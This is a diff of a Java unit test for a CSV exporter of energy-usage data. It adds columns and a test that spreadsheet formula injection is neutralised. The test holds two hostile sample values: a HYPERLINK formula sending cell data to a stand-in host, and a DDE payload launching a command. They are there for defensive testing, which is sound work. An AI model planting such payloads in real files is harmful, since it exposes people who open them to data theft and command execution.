@@ -34,7 +34,8 @@ class CodeCarbonCsvTest {
                 new UsageSnapshot.Row(
                     "uid-1", "ml", "trainer", "n1", "DE", t, first, first.plusSeconds(3600))));
     String[] lines = CodeCarbonCsv.write(s, true).split("\n");
-    assertThat(lines[0]).endsWith(",pue,wue,measured_fraction,node,pod");
+    assertThat(lines[0]).endsWith(",pue,wue,measured_fraction,node,pod,requests,generated_tokens");
+    assertThat(lines[1]).endsWith(",trainer,,"); // no counts reported: unknown, not 0
     String[] row = lines[1].split(",", -1);
     assertThat(row[0]).isEqualTo("2026-09-15T11:00:00");
     assertThat(row[1]).isEqualTo("ml/budget");
@@ -52,5 +53,44 @@ class CodeCarbonCsvTest {
     assertThat(io.wattkeeper.api.codecarbon.EmissionsCsvColumns.escape("say \"hi\""))
         .isEqualTo("\"say \"\"hi\"\"\"");
     assertThat(CodeCarbonCsv.write(s, false).split("\n")[1].split(",", -1)).hasSize(38);
+  }
+
+  /**
+   * A budget's zone and a node's grid-zone annotation end up in the region column: formulas there
+   * are neutralised (OWASP), while negative numbers in numeric columns stay numbers.
+   */
+  @Test
+  void formulaZonesAreNeutralisedInTheRegionColumn() {
+    String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
+    String dde = "@SUM(1+1)*cmd|' /C calc'!A0";
+    Instant first = Instant.parse("2026-09-15T10:00:00Z");
+    UsageTotals t = new UsageTotals();
+    t.energyWh = 10;
+    t.cpuWh = -2; // a counter correction: numeric, must stay a number
+    UsageSnapshot s =
+        new UsageSnapshot(
+            "ml",
+            "budget",
+            new Period(first, first.plusSeconds(86400), ZoneOffset.UTC, false),
+            1.0,
+            List.of(
+                new UsageSnapshot.Row(
+                    "uid-1", "ml", "a", "-n1", hyperlink, t, first, first.plusSeconds(60)),
+                new UsageSnapshot.Row(
+                    "uid-2", "ml", "b", "n2", dde, t, first, first.plusSeconds(60))));
+    String csv = CodeCarbonCsv.write(s, true);
+    assertThat(csv)
+        .contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",")
+        .contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\",")
+        .contains(",\"'-n1\",")
+        .doesNotContain(",=HYPERLINK")
+        .doesNotContain(",@SUM");
+    String[] row = csv.split("\n")[2].split(",", -1);
+    assertThat(row[10]).isEqualTo("-0.002"); // cpu_energy in kWh
+    for (String line : csv.split("\n")) {
+      for (String cell : line.split(",", -1)) {
+        assertThat(cell).doesNotMatch("^[=+@\t\r].*");
+      }
+    }
   }
 }
